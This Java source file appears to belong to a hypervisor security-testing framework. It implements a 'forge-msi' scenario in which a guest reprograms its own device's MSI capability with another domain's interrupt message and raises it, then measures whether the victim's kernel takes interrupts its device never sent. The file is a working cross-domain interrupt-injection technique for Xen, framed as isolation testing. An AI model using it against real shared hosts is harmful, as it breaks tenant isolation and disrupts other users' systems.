package org.trapdoor.attack;

import java.util.ArrayList;
import java.util.List;

import org.trapdoor.api.attack.AttackResult;
import org.trapdoor.api.attack.Evidence;

/**
 * (a) The attacker reprograms its own device's MSI capability (through its vPCI window, as its
 * kernel's {@code pci_write_msi_msg} would) with another domain's device's message: first the
 * victim's address and data as they are, then its own doorbell with the victim's data (EventID or
 * SPI); each time it raises its vector 0. Afterwards its own programming is written back.
 */
final class ForgeMsi extends Scenario {
    ForgeMsi(Platform p) {
        super(p);
    }

    @Override
    public String name() {
        return "forge-msi";
    }

    @Override
    public String description() {
        return "reprogram its device's MSI address/data with another device's message and raise it";
    }

    @Override
    public String criterion() {
        return "SUCCEEDED if the victim's kernel handles more interrupts on its vector than the victim's device "
                + "sent (its MSG_SENT register); BLOCKED otherwise";
    }

    @Override
    AttackResult attack(Attacker a) {
        Victim v = Victim.of(p.hv(), a);
        int cap = a.msiCapability();
        boolean hidden = cap < 0;
        int msi = hidden ? Endpoint.MSI_CAP : cap; // the attacker knows its device's layout
        int control = (int) a.cfgRead(msi + 2, 2);
        boolean is64 = (control & 0x80) != 0;
        int dataReg = msi + (is64 ? 12 : 8);
        long addrLo = a.cfgRead(msi + 4, 4), addrHi = is64 ? a.cfgRead(msi + 8, 4) : 0;
        long data = a.cfgRead(dataReg, 2);
        long ownAddress = addrHi << 32 | addrLo;

        long[][] forged = {{v.vector().address(), v.vector().data()}, {ownAddress, v.vector().data()}};
        String[] labels = {"victim's address and data", "own doorbell, victim's data"};
        List<Evidence> evidence = new ArrayList<>();
        boolean succeeded = false;
        String how = null;
        for (int i = 0; i < forged.length; i++) {
            String at = labels[i] + ": ";
            Readings r = new Readings()
                    .add(at + v.label() + " handled (victim kernel)", v::handled)
                    .add(at + v.label() + " sent (victim device)", v::sent)
                    .add(at + "attacker messages sent (its device)", () -> a.reg(Endpoint.REG_MSG_SENT))
                    .add(at + "physical interrupts taken (Xen ledger)", () -> xenLedger().fired())
                    .before();
            program(a, msi, control, is64, dataReg, forged[i][0], forged[i][1]);
            a.raise(0);
            Settle.quiet(r.sources());
            List<Evidence> e = r.after();
            evidence.addAll(e);
            if (e.get(0).delta() > e.get(1).delta()) {
                succeeded = true;
                how = labels[i];
            }
        }
        if (!hidden) {
            program(a, msi, control, is64, dataReg, ownAddress, data); // its own set-up back
            a.cfgWrite(msi + 2, 2, control);
        }
        String summary = succeeded ? "the victim took an interrupt its device never sent (" + how + ")"
                : "the victim's vector got only what its own device sent" + (hidden
                        ? " (the MSI capability is hidden from the DomU: the writes did not reach the device)" : "");
        return result(a, succeeded, summary, evidence);
    }

    /** Linux's order: disable, address, data, enable (the enable is what Xen checks). */
    private static void program(Attacker a, int msi, int control, boolean is64, int dataReg, long address, long data) {
        a.cfgWrite(msi + 2, 2, control & ~1);
        a.cfgWrite(msi + 4, 4, address & 0xffff_ffffL);
        if (is64) {
            a.cfgWrite(msi + 8, 4, address >>> 32);
        }
        a.cfgWrite(dataReg, 2, data & 0xffff);
        a.cfgWrite(msi + 2, 2, control | 1);
    }
}
